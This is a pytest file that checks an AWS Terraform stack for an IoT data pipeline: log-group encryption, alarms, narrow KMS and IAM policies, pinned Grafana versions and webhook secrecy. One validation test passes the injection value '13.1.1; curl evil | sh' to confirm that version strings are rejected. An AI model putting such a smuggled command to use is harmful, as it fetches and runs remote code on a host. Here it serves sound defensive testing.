"""Issue 16's Terraform items, checked on the parsed stack (same loaders as test_terraform.py)
and, where Terraform can evaluate them offline without the AWS provider, by `terraform plan`."""

from __future__ import annotations

import pytest
from test_terraform import TF, ref, res, same, tf  # the same loaders as the static tests

APIS = ("ingest", "simulator")


# -- item 9: API Gateway execution-log groups ---------------------------------------------------


def test_api_execution_log_groups_are_declared_encrypted_and_retained():
    """API Gateway's own groups have no key, no retention and survive destroy: declare them."""
    names = tf()["locals"]["api_execution_log_groups"]
    for api in APIS:
        expected = (
            f"API-Gateway-Execution-Logs_${{aws_api_gateway_rest_api.{api}.id}}"
            "/${var.api_stage_name}"
        )
        assert same(names[api], expected), names[api]
        # The name API Gateway writes to is <api id>/<stage name>: the stage must use the same var.
        assert res("aws_api_gateway_stage", api)["stage_name"] == ref("var.api_stage_name")
        settings = res("aws_api_gateway_method_settings", api)["settings"][0]
        assert settings["logging_level"] in ("ERROR", "INFO")  # execution logging is on
    group = res("aws_cloudwatch_log_group", "api_execution")
    assert group["for_each"] == ref("local.api_execution_log_groups")
    assert group["name"] == ref("each.value")
    assert group["kms_key_id"] == ref("aws_kms_key.main.arn")
    assert group["retention_in_days"] == ref("var.cloudwatch_log_retention_days")


@pytest.mark.parametrize("api", APIS)
def test_no_stage_depends_on_its_execution_log_group_by_name_only(api):
    """The group must not wait for the stage (it would be created after the first requests)."""
    assert "aws_api_gateway_stage" not in tf()["locals"]["api_execution_log_groups"][api]


# -- terraform plan of small configurations (variables, preconditions) --------------------------
# No provider is needed to evaluate variable validations and terraform_data preconditions, so
# these run offline wherever a terraform binary is on PATH.

CLI_CONFIG = """
provider_installation {
  filesystem_mirror {
    path    = "/nonexistent-mirror"
    include = ["registry.terraform.io/*/*"]
  }
  direct {
    exclude = ["registry.terraform.io/*/*"]
  }
}
"""
REQUIRED_VARS = {
    "pandas_layer_arn": (
        "arn:aws:lambda:ap-northeast-2:336392948345:layer:AWSSDKPandas-Python312:20"
    ),
    "allowed_cidrs": ["203.0.113.7/32"],
    "discord_webhook_url": "",
    "discord_alerts_enabled": False,
}


def terraform_plan(tmp_path, files: dict[str, str], variables: dict):
    """`terraform init` + `plan` of `files` (name -> text) with `variables`; the finished run."""
    import json
    import shutil
    import subprocess

    binary = shutil.which("terraform")
    if binary is None:
        pytest.skip("no terraform binary on PATH")
    work = tmp_path / "tf"
    work.mkdir(parents=True)
    for name, text in files.items():
        (work / name).write_text(text)
    (work / "test.auto.tfvars.json").write_text(json.dumps(variables))
    (tmp_path / "cli.tfrc").write_text(CLI_CONFIG)
    env = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(tmp_path),
        "TF_CLI_CONFIG_FILE": str(tmp_path / "cli.tfrc"),
        "TF_IN_AUTOMATION": "1",
        "CHECKPOINT_DISABLE": "1",
    }
    for args in (["init", "-backend=false"], ["plan", "-refresh=false"]):
        done = subprocess.run(
            [binary, *args, "-input=false", "-no-color"],
            cwd=work,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        if done.returncode != 0:
            break
    done.text = " ".join((done.stdout + done.stderr).split())
    return done


def variables_only(tmp_path, variables: dict):
    text = (TF / "variables.tf").read_text()
    return terraform_plan(tmp_path, {"variables.tf": text}, REQUIRED_VARS | variables)


# -- item 1 (last part): the webhook URL stays out of the state ----------------------------------
# The URL is ephemeral (terraform/variables.tf) and written through value_wo (test_terraform.py);
# the emulated apply checks the S3 state object. Here: the non-secret switches around it.
WEBHOOK = "https://discord.com/api/webhooks/123/plan-time-token"


def test_alerts_on_without_a_webhook_stop_at_the_variables(tmp_path):
    done = variables_only(tmp_path, {"discord_alerts_enabled": True, "discord_webhook_url": ""})
    assert done.returncode == 1
    assert "Invalid value for variable" in done.text
    assert "discord_alerts_enabled is true" in done.text
    assert "TF_VAR_discord_webhook_url" in done.text
    assert "discord_alerts_enabled = false" in done.text


@pytest.mark.parametrize(
    "variables",
    [
        {"discord_alerts_enabled": True, "discord_webhook_url": WEBHOOK},
        {"discord_alerts_enabled": False, "discord_webhook_url": ""},
        {"discord_webhook_url": WEBHOOK, "discord_webhook_version": 7},
    ],
)
def test_a_webhook_or_alerts_off_are_accepted(tmp_path, variables):
    variables = {"discord_alerts_enabled": True} | variables
    done = variables_only(tmp_path, variables)
    assert done.returncode == 0, done.text
    assert "plan-time-token" not in done.text  # sensitive and ephemeral: never printed


@pytest.mark.parametrize("version", [0, 1.5, -2])
def test_the_webhook_version_is_a_whole_number(tmp_path, version):
    done = variables_only(tmp_path, {"discord_webhook_version": version})
    assert done.returncode == 1
    assert "discord_webhook_version must be a whole number >= 1" in done.text


# -- item 12: alarms ----------------------------------------------------------------------------


def test_alarms_cover_dlqs_lambdas_firehose_and_api_5xx():
    locals_ = tf()["locals"]
    assert set(locals_["dlq_alarms"].values()) == {
        ref("aws_sqs_queue.alerts_dlq.name"),
        ref("aws_sqs_queue.simulator_dlq.name"),
        ref("local.silent_function_name") + "-failures",  # modules/lambda_function's queue
    }
    module_queue = tf()["resource"]["aws_sqs_queue"]["modules/lambda_function:dead_letters"]
    assert module_queue["name"] == "${var.function_name}-failures"
    functions = {f for f in tf()["resource"]["aws_lambda_function"] if ":" not in f}
    assert {v for v in locals_["lambda_alarms"].values()} == {
        ref(f"aws_lambda_function.{f}.function_name") for f in functions
    } | {ref("module.silent_check.function_name")}  # the function built by modules/
    assert set(locals_["api_alarms"].values()) == {
        ref("aws_api_gateway_rest_api.ingest.name"),
        ref("aws_api_gateway_rest_api.simulator.name"),
    }
    metrics = {a["metric"] for a in locals_["firehose_alarms"].values()}
    assert metrics == {
        "DeliveryToS3.Success",
        "ExecuteProcessing.Success",
        "FailedConversion.Records",
        "DeliveryToS3.DataFreshness",
    }
    topic = ref("aws_sns_topic.alarms.arn")
    alarms = tf()["resource"]["aws_cloudwatch_metric_alarm"]
    assert set(alarms) == {"dlq_not_empty", "lambda_errors", "firehose", "api_5xx"}
    for name, alarm in alarms.items():
        assert alarm["alarm_actions"] == [topic] and alarm["ok_actions"] == [topic], name
        assert alarm["treat_missing_data"] == "notBreaching", name  # no traffic is no alarm
        assert alarm["alarm_name"].startswith("${local.alarm_prefix}"), name
        assert alarm["alarm_description"], name
    assert alarms["api_5xx"]["dimensions"]["Stage"] == ref("var.api_stage_name")


def test_alarm_topic_is_encrypted_and_only_this_projects_alarms_may_use_it():
    topic = res("aws_sns_topic", "alarms")
    assert topic["kms_master_key_id"] == ref("aws_kms_key.main.arn")
    assert same(tf()["locals"]["alarm_arns"].rsplit(":alarm:", 1)[1], "${local.alarm_prefix}*")
    for doc, sid in (
        ("alarms_topic", "CloudWatchAlarmsPublish"),
        ("kms", "CloudWatchAlarmsUseKeyForTopic"),
    ):
        (stmt,) = [
            s
            for s in tf()["data"]["aws_iam_policy_document"][doc]["statement"]
            if s.get("sid") == sid
        ]
        assert stmt["principals"][0]["identifiers"] == ["cloudwatch.amazonaws.com"]
        conditions = {c["variable"]: c for c in stmt["condition"]}
        assert conditions["aws:SourceAccount"]["values"] == [ref("local.account_id")]
        assert conditions["aws:SourceArn"]["test"] == "ArnLike"
        assert conditions["aws:SourceArn"]["values"] == [ref("local.alarm_arns")]
    assert set(stmt["actions"]) == {"kms:Decrypt", "kms:GenerateDataKey*"}
    policy = res("aws_sns_topic_policy", "alarms")
    assert policy["policy"] == ref("data.aws_iam_policy_document.alarms_topic.json")
    sub = res("aws_sns_topic_subscription", "alarm_email")
    assert sub["for_each"] == ref("toset(var.alarm_emails)") and sub["protocol"] == "email"


def test_alarm_emails_are_validated_by_terraform(tmp_path):
    bad = variables_only(tmp_path, {"alarm_emails": ["ops@example.com", "not-an-address"]})
    assert bad.returncode != 0 and "alarm_emails must hold e-mail addresses" in bad.text, bad.text
    good = variables_only(tmp_path / "ok", {"alarm_emails": ["ops@example.com"]})
    assert good.returncode == 0, good.text


# -- item 5: where the pandas layer may come from -------------------------------------------------

OWN_ACCOUNT = "111122223333"


def layer_plan(tmp_path, arn: str, region: str = "ap-northeast-2"):
    files = {
        "variables.tf": (TF / "variables.tf").read_text(),
        "layers.tf": (TF / "layers.tf").read_text(),
        # locals.tf reads the account from aws_caller_identity; here it is fixed.
        "stub_account.tf": f'locals {{\n  account_id = "{OWN_ACCOUNT}"\n}}\n',
    }
    return terraform_plan(
        tmp_path, files, REQUIRED_VARS | {"pandas_layer_arn": arn, "region": region}
    )


@pytest.mark.parametrize(
    ("arn", "region"),
    [
        (
            "arn:aws:lambda:ap-northeast-2:336392948345:layer:AWSSDKPandas-Python312:20",
            "ap-northeast-2",
        ),
        ("arn:aws:lambda:eu-west-1:336392948345:layer:AWSSDKPandas-Python312:18", "eu-west-1"),
        ("arn:aws:lambda:ap-east-1:839552336658:layer:AWSSDKPandas-Python312:9", "ap-east-1"),
        (f"arn:aws:lambda:ap-northeast-2:{OWN_ACCOUNT}:layer:my-pandas:3", "ap-northeast-2"),
    ],
)
def test_publisher_or_own_layers_are_accepted(tmp_path, arn, region):
    done = layer_plan(tmp_path, arn, region)
    assert done.returncode == 0, done.text


@pytest.mark.parametrize(
    ("arn", "region", "why"),
    [
        (
            "arn:aws:lambda:ap-northeast-2:999999999999:layer:AWSSDKPandas-Python312:20",
            "ap-northeast-2",
            "pandas_layer_arn belongs to account 999999999999: only the AWS SDK for pandas "
            "publisher (336392948345 in ap-northeast-2) or this account (111122223333)",
        ),
        (
            "arn:aws:lambda:us-east-1:336392948345:layer:AWSSDKPandas-Python312:20",
            "ap-northeast-2",
            "pandas_layer_arn is in us-east-1 but the stack deploys to ap-northeast-2",
        ),
        (
            "arn:aws:lambda:ap-east-1:336392948345:layer:AWSSDKPandas-Python312:9",
            "ap-east-1",
            "belongs to account 336392948345: only the AWS SDK for pandas publisher "
            "(839552336658 in ap-east-1)",
        ),
        (
            "arn:aws:lambda:ap-northeast-2:336392948345:layer:SomethingElse:1",
            "ap-northeast-2",
            "names the publisher's layer SomethingElse; the functions need AWSSDKPandas-Python312",
        ),
    ],
)
def test_other_layers_are_refused_at_plan_time(tmp_path, arn, region, why):
    done = layer_plan(tmp_path, arn, region)
    assert done.returncode != 0 and "Resource precondition failed" in done.text, done.text
    assert why in done.text, done.text


def test_every_function_uses_the_checked_layer_variable():
    for name, function in tf()["resource"]["aws_lambda_function"].items():
        if name.startswith("modules/lambda_function:"):
            assert function["layers"] == ref("var.layers"), name  # passed by each module call
            continue
        assert function["layers"] == [ref("var.pandas_layer_arn")], name
    from test_terraform import parsed_files

    calls = [
        m
        for doc in parsed_files().values()
        for block in doc.get("module", [])
        for m in block.values()
    ]
    assert calls and all(m["layers"] == [ref("var.pandas_layer_arn")] for m in calls)
    assert res("terraform_data", "pandas_layer_origin")["input"] == ref("var.pandas_layer_arn")


# -- item 10: Kinesis' error text never reaches API clients ------------------------------------


def test_kinesis_error_details_stay_out_of_the_api_answer():
    import json

    from apigw_vtl import render, template

    denied = json.dumps(
        {
            "__type": "AccessDeniedException",
            "message": "User: arn:aws:sts::123456789012:assumed-role/smartfarm-apigw-kinesis/x "
            "is not authorized to perform: kinesis:PutRecords on resource: "
            "arn:aws:kinesis:ap-northeast-2:123456789012:stream/smartfarm-readings",
        }
    )
    kms = json.dumps(
        {
            "__type": "KMSAccessDeniedException",
            "message": "The ciphertext refers to a customer master key that does not exist: "
            "arn:aws:kms:ap-northeast-2:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
        }
    )
    for body in (denied, kms):
        text, override = render(template("error_response.vtl"), body)
        answer = json.loads(text)
        assert answer == {"message": "the stream rejected the request", "requestId": "test-request"}
        assert "123456789012" not in text and "arn:" not in text and override == {}
    # the details are kept where operators look: the access log line of the request
    access = tf()["locals"]["api_access_log_format"]
    assert "$context.integration.error" in access and "$context.requestId" in access


# -- item 11: narrower key use --------------------------------------------------------------------


def _statement(doc: str, sid: str) -> dict:
    (stmt,) = [
        s for s in tf()["data"]["aws_iam_policy_document"][doc]["statement"] if s.get("sid") == sid
    ]
    return stmt


def _conditions(stmt: dict) -> dict:
    return {c["variable"]: (c["test"], c["values"]) for c in stmt.get("condition", [])}


def test_grafana_and_firehose_use_the_key_only_through_their_services():
    """Every kms: action of these internet-facing / data-moving roles names the service it goes
    through (and SSM the one parameter), so their credentials cannot decrypt anything else."""
    region = "${local.region}"
    expected = {
        ("grafana", "UseProjectKeyThroughS3"): [f"s3.{region}.amazonaws.com"],
        ("grafana", "EncryptAndReadOwnAdminPassword"): [f"ssm.{region}.amazonaws.com"],
        ("firehose", "UseProjectKey"): [
            f"kinesis.{region}.amazonaws.com",
            f"s3.{region}.amazonaws.com",
        ],
    }
    for doc in ("grafana", "firehose"):
        for stmt in tf()["data"]["aws_iam_policy_document"][doc]["statement"]:
            if any(a.startswith("kms:") for a in stmt["actions"]):
                via = _conditions(stmt).get("kms:ViaService")
                assert via == ("StringEquals", expected[(doc, stmt["sid"])]), (doc, stmt["sid"])
    password = _conditions(_statement("grafana", "EncryptAndReadOwnAdminPassword"))
    assert password["kms:EncryptionContext:PARAMETER_ARN"] == (
        "StringEquals",
        [ref("aws_ssm_parameter.grafana_admin_password.arn")],
    )


def test_transform_role_decrypts_only_its_own_environment():
    stmt = _statement("firehose_transform", "DecryptEnvironment")
    assert stmt["actions"] == ["kms:Decrypt"]
    test, values = _conditions(stmt)["kms:EncryptionContext:aws:lambda:FunctionArn"]
    assert test == "StringEquals"
    assert values == [
        "arn:${local.partition}:lambda:${local.region}:${local.account_id}:function:"
        "${local.transform_function_name}"
    ]
    function = res("aws_lambda_function", "firehose_transform")
    assert function["function_name"] == ref("local.transform_function_name")
    assert function["kms_key_arn"] == ref("aws_kms_key.main.arn")


def _resolve(expr: str) -> str:
    """A log group name with the stack's locals and a sample project / API id filled in."""
    import re

    locals_ = tf()["locals"]
    for _ in range(5):
        expr = re.sub(
            r"\$\{local\.(\w+)\}",
            lambda m: str(locals_[m.group(1)]) if isinstance(locals_[m.group(1)], str) else m[0],
            expr,
        )
    expr = expr.replace("${var.project}", "smartfarm").replace("${var.api_stage_name}", "v1")
    return re.sub(r"\$\{aws_api_gateway_rest_api\.\w+\.id\}", "a1b2c3d4e5", expr)


def test_key_policy_lets_cloudwatch_logs_encrypt_every_project_log_group_and_no_other():
    """Too narrow breaks log groups at apply time on AWS (moto does not check): so every log
    group the stack declares must match, and the account-wide `log-group:*` must be gone."""
    import fnmatch

    stmt = _statement("kms", "CloudWatchLogsUsesKey")
    test, values = _conditions(stmt)["kms:EncryptionContext:aws:logs:arn"]
    assert test == "ArnLike" and values.startswith("${[for group in local.kms_log_groups")
    patterns = [_resolve(p) for p in tf()["locals"]["kms_log_groups"]]
    assert "*" not in patterns and all(p != "" for p in patterns)
    names = [_resolve("/aws/lambda/${local.silent_function_name}")]  # modules/lambda_function's
    for name, group in tf()["resource"]["aws_cloudwatch_log_group"].items():
        if name.startswith("modules/lambda_function:"):
            assert group["name"] == "/aws/lambda/${var.function_name}", name
            continue
        assert group["kms_key_id"] == ref("aws_kms_key.main.arn"), name
        if group["name"] == ref("each.value"):
            names += [_resolve(v) for v in tf()["locals"]["api_execution_log_groups"].values()]
        else:
            names.append(_resolve(group["name"]))
    assert len(names) >= 8
    for name in names:
        assert "${" not in name, name
        assert any(fnmatch.fnmatchcase(name, p) for p in patterns), name
    assert not any(fnmatch.fnmatchcase("/aws/lambda/someone-elses-function", p) for p in patterns)


def test_crawler_trust_refuses_another_accounts_glue():
    from iam_trust import allows_assume

    (stmt,) = tf()["data"]["aws_iam_policy_document"]["glue_assume"]["statement"]
    own = "111122223333"
    policy = {
        "Statement": [
            {
                "Effect": "Allow",
                "Action": stmt["actions"],
                "Principal": {"Service": stmt["principals"][0]["identifiers"]},
                "Condition": {
                    c["test"]: {
                        c["variable"]: [
                            v.replace(ref("local.account_id"), own) for v in c["values"]
                        ]
                    }
                    for c in stmt["condition"]
                },
            }
        ]
    }
    assert allows_assume(policy, "glue.amazonaws.com", {"aws:SourceAccount": own})
    assert not allows_assume(policy, "glue.amazonaws.com", {"aws:SourceAccount": "999999999999"})
    # A Glue call without the key still works (the condition is ...IfExists on purpose).
    assert allows_assume(policy, "glue.amazonaws.com", {})


# -- item 12: Grafana and its Athena plugin are pinned --------------------------------------------


def _rendered_user_data(tmp_path, variables: dict):
    """user_data.sh.tftpl rendered by Terraform itself, with the variables from variables.tf."""
    import re

    script = (TF / "grafana/user_data.sh.tftpl").read_text()
    call = res("aws_instance", "grafana")["user_data_base64"]
    passed = dict(re.findall(r"(\w+)\s*=\s*var\.(\w+)", call))
    assert passed == {
        "grafana_version": "grafana_version",
        "athena_plugin_version": "athena_plugin_version",
    }
    names = sorted(set(re.findall(r"(?<!\$)\$\{(\w+)\}", script)))
    args = ", ".join(f"{n} = var.{n}" if n in passed else f'{n} = "<{n}>"' for n in names)
    files = {
        "variables.tf": (TF / "variables.tf").read_text(),
        "user_data.sh.tftpl": script,
        "render.tf": (
            f'output "script" {{\n  value = templatefile("user_data.sh.tftpl", {{ {args} }})\n}}\n'
        ),
    }
    done = terraform_plan(tmp_path, files, REQUIRED_VARS | variables)
    return done


def test_user_data_installs_the_pinned_versions(tmp_path):
    done = _rendered_user_data(tmp_path, {})
    assert done.returncode == 0, done.text
    defaults = tf()["variable"]
    grafana = defaults["grafana_version"]["default"]
    plugin = defaults["athena_plugin_version"]["default"]
    assert f'dnf install -y "grafana-{grafana}"' in done.text, done.text
    assert f'plugins install grafana-athena-datasource "{plugin}"' in done.text, done.text
    other = _rendered_user_data(tmp_path / "b", {"grafana_version": "12.0.2"})
    assert other.returncode == 0 and 'dnf install -y "grafana-12.0.2"' in other.text


@pytest.mark.parametrize("name", ["grafana_version", "athena_plugin_version"])
@pytest.mark.parametrize("value", ["latest", "13.1", "13.1.1; curl evil | sh", ""])
def test_versions_must_be_release_numbers(tmp_path, name, value):
    done = variables_only(tmp_path, {name: value})
    assert done.returncode != 0 and f"{name} must be a release number" in done.text, done.text


def test_alarms_can_be_relayed_to_discord_by_the_anomaly_function():
    sub = res("aws_sns_topic_subscription", "alarms_to_discord")
    permission = res("aws_lambda_permission", "alarms_invoke_anomaly_detector")
    condition = ref("var.alarms_to_discord && local.discord_enabled ? 1 : 0")
    assert same(sub["count"], condition) and same(permission["count"], condition)
    assert sub["protocol"] == "lambda" and sub["topic_arn"] == ref("aws_sns_topic.alarms.arn")
    assert sub["endpoint"] == ref("aws_lambda_function.anomaly_detector.arn")
    assert permission["principal"] == "sns.amazonaws.com"
    assert permission["source_arn"] == ref("aws_sns_topic.alarms.arn")  # this topic only
    assert tf()["variable"]["alarms_to_discord"]["default"] is True


# -- item 3 (part): the simulator sends with a key and usage plan of its own ----------------------


def test_simulator_sends_with_its_own_ingest_key_and_usage_plan():
    """A fake run (up to 10,000 sends) is throttled and counted apart from the devices."""
    env = res("aws_lambda_function", "simulator")["environment"][0]["variables"]
    assert env["INGEST_API_KEY_SSM_PARAMETER"] == ref(
        "aws_ssm_parameter.simulator_ingest_api_key.name"
    )
    param = res("aws_ssm_parameter", "simulator_ingest_api_key")
    assert param["value"] == ref("aws_api_gateway_api_key.simulator_ingest.value")
    assert param["type"] == "SecureString" and param["key_id"] == ref("aws_kms_key.main.arn")
    read = _statement("simulator", "ReadOwnIngestApiKey")
    assert read["resources"] == [ref("aws_ssm_parameter.simulator_ingest_api_key.arn")]
    ssm_resources = [
        r
        for s in tf()["data"]["aws_iam_policy_document"]["simulator"]["statement"]
        if any(a.startswith("ssm:") for a in s["actions"])
        for r in s["resources"]
    ]
    assert ref("aws_ssm_parameter.ingest_api_key[0].arn") not in ssm_resources  # not the devices'
    plan = res("aws_api_gateway_usage_plan", "simulator_ingest")
    stage = plan["api_stages"][0]
    assert stage["api_id"] == ref("aws_api_gateway_rest_api.ingest.id")
    assert plan["quota_settings"][0]["limit"] == ref("var.simulator_ingest_quota_limit")
    assert plan["throttle_settings"][0]["rate_limit"] == ref("var.simulator_ingest_rate_limit")
    key = res("aws_api_gateway_usage_plan_key", "simulator_ingest")
    assert key["key_id"] == ref("aws_api_gateway_api_key.simulator_ingest.id")
    assert key["usage_plan_id"] == ref("aws_api_gateway_usage_plan.simulator_ingest.id")
    devices = res("aws_api_gateway_usage_plan_key", "ingest")
    assert devices["key_id"] == ref("aws_api_gateway_api_key.ingest[0].id")  # only if shared
